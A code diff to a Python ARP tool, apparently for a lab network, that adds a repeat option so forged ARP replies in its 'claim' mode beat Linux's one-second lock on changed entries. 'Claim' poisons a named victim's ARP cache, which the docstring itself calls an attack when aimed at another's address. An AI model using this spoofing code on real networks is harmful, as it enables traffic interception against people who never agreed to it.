@@ -1,7 +1,9 @@
-"""Send one ARP packet that nobody has asked for (RFC 826), from eth1.
+"""Send an ARP packet that nobody has asked for (RFC 826), from eth1.
 
-    arp.py claim ADDRESS TO MAC   a reply to the host TO at MAC: "ADDRESS is at" this node's own MAC address
-    arp.py announce ADDRESS       to everyone: the same, as a gratuitous ARP request (RFC 5944 section 4.6)
+    arp.py claim ADDRESS TO MAC [TIMES]   a reply to the host TO at MAC: "ADDRESS is at" this node's own MAC address
+    arp.py announce ADDRESS               to everyone: the same, as a gratuitous ARP request (RFC 5944 section 4.6)
+
+Several TIMES are 0.3 s apart: Linux leaves an entry alone for a second after it has changed, so one may be ignored.
 
 Nothing in ARP says whether an answer is true. `claim` for one's own address is a courtesy, for another's an attack: so
 this speaks of the lab's own addresses, 10.7.1.x, and of no others.
@@ -10,6 +12,7 @@ this speaks of the lab's own addresses, 10.7.1.x, and of no others.
 import socket
 import struct
 import sys
+import time
 
 INTERFACE = "eth1"
 BROADCAST = "ff:ff:ff:ff:ff:ff"
@@ -35,7 +38,10 @@ def send(operation: int, about: str, target: str, target_mac: str, to: str) -> N
 
 
 if sys.argv[1] == "claim":
-    _, _, address, victim, mac = sys.argv
-    send(REPLY, address, victim, mac, mac)
+    address, victim, mac, *times = sys.argv[2:]
+    for number in range(int(times[0]) if times else 1):
+        if number:
+            time.sleep(0.3)
+        send(REPLY, address, victim, mac, mac)
 else:
     send(REQUEST, sys.argv[2], sys.argv[2], "00:00:00:00:00:00", BROADCAST)
